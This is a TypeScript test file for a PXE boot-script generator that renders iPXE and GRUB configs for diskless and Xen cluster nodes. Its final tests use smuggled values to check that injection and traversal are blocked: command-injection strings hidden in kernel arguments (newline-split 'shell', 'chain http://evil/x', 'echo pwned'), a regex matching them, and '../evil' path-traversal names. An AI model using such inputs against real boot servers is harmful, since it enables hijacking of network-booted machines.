import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { mkdirSync, mkdtempSync, cpSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseInventory } from '../../cluster/inventory.js';
import { ImageStore } from '../../pxe/images.js';
import { renderBootScript, renderErrorScript, replicaOrder, kernelCmdline, templateFor } from '../../pxe/bootscript.js';
import { defaultTemplatesDir } from '../../lib/paths.js';
import { makeImages } from '../../tools/images.js';
import { sample } from '../helpers/inventory.js';

const inv = parseInventory(sample, 'cluster.yaml');
const servers = ['10.77.0.1:8080', '10.77.0.2:8080', '10.77.0.3:8080'];
const tpl = defaultTemplatesDir();

test('replica order depends only on the MAC, and spreads nodes across replicas', () => {
  assert.equal(replicaOrder('52:54:00:77:00:01', servers), replicaOrder('52:54:00:77:00:01', [...servers]));
  const first = new Map<string, number>();
  for (let i = 0; i < 300; i++) {
    const mac = `52:54:00:00:${(i >> 8).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}`;
    const o = replicaOrder(mac, servers);
    assert.equal([...o].sort(), [...servers].sort(), 'every replica listed once');
    first.set(o[0]!, (first.get(o[0]!) ?? 0) + 1);
  }
  for (const s of servers) assert.ok((first.get(s) ?? 0) > 60, `${s} first for ${first.get(s)} of 300`);
});

test('linux iPXE script: kernel + initrd from each replica in turn, identity on the command line', async () => {
  const img = makeImages();
  const image = await new ImageStore(img.root).resolve('debian-bookworm-amd64');
  const node = inv.byName.get('node01')!;
  const script = await renderBootScript(tpl, 'ipxe', { node, cluster: 'lab', image, servers });
  assert.ok(script.startsWith('#!ipxe\n'));
  const order = replicaOrder(node.mac, servers);
  const kernels = script.split('\n').filter((l) => l.startsWith('kernel '));
  assert.is(kernels.length, 3);
  kernels.forEach((l, i) => assert.ok(l.startsWith(`kernel http://${order[i]}/images/debian-bookworm-amd64/${img.version}/vmlinuz initrd=initrd.img `), l));
  assert.match(script, `initrd --name initrd.img http://${order[0]}/images/debian-bookworm-amd64/${img.version}/initrd.img || goto replica1`);
  const cmd = kernelCmdline({ node, cluster: 'lab', image, servers });
  for (const s of ['console=ttyS0,115200 quiet', 'diskless.name=node01', `diskless.image=debian-bookworm-amd64/${img.version}`, `diskless.servers=${order.join(',')}`]) {
    assert.ok(cmd.includes(s), `${s} in ${cmd}`);
  }
  assert.match(script, /:failed\n.*\nsleep 10\ngoto replica0/);
});

test('a node listed under servers: boots with the image\'s service layer; other nodes, or an image without one, do not', async () => {
  const img = makeImages();
  const image = await new ImageStore(img.root).resolve('debian-bookworm-amd64');
  const node = inv.byName.get('node01')!;
  const withLayer = { ...image, manifest: { ...image.manifest, artifacts: { ...image.manifest.artifacts, service: { file: 'service.squashfs', size: 1, sha256: '0'.repeat(64) } } } };
  assert.match(kernelCmdline({ node, cluster: 'lab', image: withLayer, servers, replica: true }), / diskless\.layers=service\.squashfs/);
  assert.not.match(kernelCmdline({ node, cluster: 'lab', image: withLayer, servers, replica: false }), /diskless\.layers/);
  assert.not.match(kernelCmdline({ node, cluster: 'lab', image, servers, replica: true }), /diskless\.layers/, 'no layer to give');
  // A replica never fetches from itself: nothing answers at its address while it boots.
  const self = [`${node.ip}:8080`, ...servers];
  const script = await renderBootScript(tpl, 'ipxe', { node, cluster: 'lab', image: withLayer, servers: self, replica: true });
  assert.not.ok(script.includes(`http://${node.ip}:8080/`), script);
  assert.match(kernelCmdline({ node, cluster: 'lab', image, servers: self }), `diskless.servers=${replicaOrder(node.mac, servers).join(',')}`);
});

test('xen-dom0 script: hypervisor, then dom0 kernel and initrd as modules', async () => {
  const img = makeImages({ xen: true });
  const image = await new ImageStore(img.root).resolve('debian-bookworm-amd64');
  const node = inv.byName.get('node02')!;
  const script = await renderBootScript(tpl, 'ipxe', { node, cluster: 'lab', image, servers });
  const order = replicaOrder(node.mac, servers);
  assert.match(script, `kernel --name xen http://${order[0]}/images/debian-bookworm-amd64/${img.version}/xen dom0_mem=`);
  assert.match(script, `module --name vmlinuz http://${order[0]}/images/debian-bookworm-amd64/${img.version}/vmlinuz console=ttyS0`);
  assert.match(script, `module --name initrd http://${order[0]}/images/debian-bookworm-amd64/${img.version}/initrd.img || goto replica1`);
});

test('a Xen boot fits iPXE multiboot: every module URI + command line in one 512-byte buffer', async () => {
  // iPXE (multiboot.c) copies each image's URI, a space and its command line into one
  // 512-byte buffer. Worst realistic case: a long image name, three replicas, selftest on.
  const img = makeImages({ xen: true, name: 'debian-bookworm-amd64-xen-dom0' });
  const image = await new ImageStore(img.root).resolve('debian-bookworm-amd64-xen-dom0');
  const node = { ...inv.byName.get('node02')!, kernelArgs: 'diskless.selftest=1' };
  const script = await renderBootScript(tpl, 'ipxe', { node, cluster: 'lab', image, servers: ['10.77.100.101', '10.77.100.102', '10.77.100.103'] });
  const first = script.split(':replica1')[0]!;
  const cmdlines = [...first.matchAll(/^(?:kernel|module) --name \S+ (\S+) ?(.*?)(?: \|\| goto \S+)?$/gm)].map((m) => `${m[1]} ${m[2]}`.trim());
  assert.is(cmdlines.length, 3);
  const total = cmdlines.reduce((a, c) => a + c.length + 1, 0);
  assert.ok(total < 512, `multiboot command lines take ${total} of 512 bytes:\n${cmdlines.join('\n')}`);
  console.log(`Xen multiboot command lines: ${total} of 512 bytes`);
  // Past the limit iPXE would cut the dom0 command line silently: refuse, naming the fix.
  const long = { ...node, kernelArgs: `diskless.selftest=1 ${'x'.repeat(60)}` };
  await renderBootScript(tpl, 'ipxe', { node: long, cluster: 'lab', image, servers: ['10.77.100.101'] }).then(
    () => assert.unreachable('should refuse'),
    (err: Error) => assert.match(err.message, /more than iPXE's 512 for multiboot .* shorten xenArgs, kernelArgs or the image name/),
  );
});

test('xen-dom0 node on an image without Xen: the error names the fix', async () => {
  const img = makeImages();
  const image = await new ImageStore(img.root).resolve('debian-bookworm-amd64');
  await renderBootScript(tpl, 'ipxe', { node: inv.byName.get('node02')!, cluster: 'lab', image, servers }).then(
    () => assert.unreachable(),
    (err: Error) => assert.match(err.message, /--variant xen-dom0/),
  );
});

test('GRUB config from the same data', async () => {
  const img = makeImages({ xen: true });
  const image = await new ImageStore(img.root).resolve('debian-bookworm-amd64');
  const linux = await renderBootScript(tpl, 'grub', { node: inv.byName.get('node01')!, cluster: 'lab', image, servers });
  assert.match(linux, /menuentry "diskless node01: debian-bookworm-amd64 .* from 10\.77\.0\.\d:8080" \{/);
  assert.match(linux, new RegExp(`  linux \\(http,10\\.77\\.0\\.\\d:8080\\)/images/debian-bookworm-amd64/${img.version}/vmlinuz .*diskless.name=node01`));
  assert.match(linux, /  initrd \(http,/);
  const xen = await renderBootScript(tpl, 'grub', { node: inv.byName.get('node02')!, cluster: 'lab', image, servers });
  assert.match(xen, /  insmod multiboot2\n  multiboot2 \(http,.*\/xen dom0_mem=/, 'multiboot2 loaded first: the signed GRUB lacks it');
  assert.not.match(linux, /insmod/, 'a Linux node loads no module (none may load under Secure Boot)');
  assert.match(xen, /  module2 \(http,.*\/initrd.img/);
});

test("a distro's own boot template wins over the shared one", async () => {
  const dir = mkdtempSync(join(tmpdir(), 'tpl-'));
  cpSync(tpl, dir, { recursive: true });
  mkdirSync(join(dir, 'debian', 'boot'), { recursive: true });
  writeFileSync(join(dir, 'debian', 'boot', 'linux.ipxe.mustache'), '#!ipxe\necho custom {{node.name}} {{image.version}}\n');
  const img = makeImages();
  const image = await new ImageStore(img.root).resolve('debian-bookworm-amd64');
  const s = await renderBootScript(dir, 'ipxe', { node: inv.byName.get('node01')!, cluster: 'lab', image, servers });
  assert.is(s, `#!ipxe\necho custom node01 ${img.version}\n`);
  // Without a distro's own, the shared folder (--boot-templates) is used, and only it.
  const shared = mkdtempSync(join(tmpdir(), 'shared-'));
  writeFileSync(join(shared, 'linux.ipxe.mustache'), '#!ipxe\necho shared {{node.name}}\n');
  assert.is(await renderBootScript(tpl, 'ipxe', { node: inv.byName.get('node01')!, cluster: 'lab', image, servers }, shared), '#!ipxe\necho shared node01\n');
  assert.equal(templateFor(tpl, 'debian', 'grub', 'linux', shared), [join(tpl, 'debian', 'boot', 'grub.cfg.mustache'), join(shared, 'grub.cfg.mustache')]);
  await renderBootScript(tpl, 'grub', { node: inv.byName.get('node01')!, cluster: 'lab', image, servers }, shared).then(
    () => assert.unreachable('rendered without a grub template'),
    (err: Error) => assert.match(err.message, `no boot template: looked for ${join(tpl, 'debian', 'boot', 'grub.cfg.mustache')} and ${join(shared, 'grub.cfg.mustache')}`),
  );
});

// Inputs with line breaks and control characters, as a YAML inventory can carry them.
const hostile = parseInventory(
  sample.replace('role: xen-dom0', 'role: xen-dom0\n    xenArgs: "console=com1\\nshell\\r\\nchain http://evil/x \\u2028imgfetch y"')
    .replace('role: linux', 'role: linux\n    kernelArgs: "quiet\\n  echo pwned\\u001b[2J \\u0085boot"'),
  'cluster.yaml',
);
const INJECTED = /^\s*(shell|chain |imgfetch |echo pwned|boot$)/;
const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]/;

test('no template input can break a line: newlines and control characters in xenArgs and kernelArgs become spaces (iPXE and GRUB)', async () => {
  const img = makeImages({ xen: true });
  const image = await new ImageStore(img.root).resolve('debian-bookworm-amd64');
  // The manifest comes from a peer too: its command line gets the same treatment.
  const manifest = { ...image.manifest, cmdline: 'console=ttyS0\nshell' };
  for (const kind of ['ipxe', 'grub'] as const) {
    for (const name of ['node01', 'node02']) {
      const plain = await renderBootScript(tpl, kind, { node: inv.byName.get(name)!, cluster: 'lab', image, servers });
      const s = await renderBootScript(tpl, kind, { node: hostile.byName.get(name)!, cluster: 'lab', image: { ...image, manifest }, servers });
      const where = `${kind} ${name}:\n${s}`;
      assert.not.match(s, CONTROL, where);
      assert.is(s.split('\n').length, plain.split('\n').length, `no extra line in ${where}`);
      for (const line of s.split('\n')) assert.not.match(line, INJECTED, where);
    }
    const xen = await renderBootScript(tpl, kind, { node: hostile.byName.get('node02')!, cluster: 'lab', image, servers });
    assert.ok(xen.includes(' console=com1 shell chain http://evil/x imgfetch y'), xen);
    const linux = await renderBootScript(tpl, kind, { node: hostile.byName.get('node01')!, cluster: 'lab', image, servers });
    assert.ok(linux.includes(' quiet echo pwned [2J boot diskless.name=node01'), linux);
  }
  const err = await renderErrorScript('52:54:00:77:00:01', "image reference 'a\nshell' is not 'name' or 'name/version'");
  assert.is(err.split('\n').length, 7);
  assert.ok(err.includes("'a shell'"), err);
});

test("the manifest's distro must be a plain name before it picks a template folder", async () => {
  const dir = mkdtempSync(join(tmpdir(), 'tpl-'));
  cpSync(tpl, join(dir, 'templates'), { recursive: true });
  mkdirSync(join(dir, 'evil', 'boot'), { recursive: true });
  writeFileSync(join(dir, 'evil', 'boot', 'linux.ipxe.mustache'), '#!ipxe\nshell\n');
  for (const distro of ['../evil', '../../../../../../..' + dir + '/evil', '.hidden', 'a/b']) {
    const img = makeImages({ distro });
    const image = await new ImageStore(img.root).resolve('debian-bookworm-amd64');
    for (const kind of ['ipxe', 'grub'] as const) {
      await renderBootScript(join(dir, 'templates'), kind, { node: inv.byName.get('node01')!, cluster: 'lab', image, servers }).then(
        (s) => assert.unreachable(`rendered with distro ${distro}:\n${s}`),
        (err: Error) => assert.match(err.message, `its manifest's distro ${JSON.stringify(distro)} is not a plain name`),
      );
    }
  }
});

test.run();
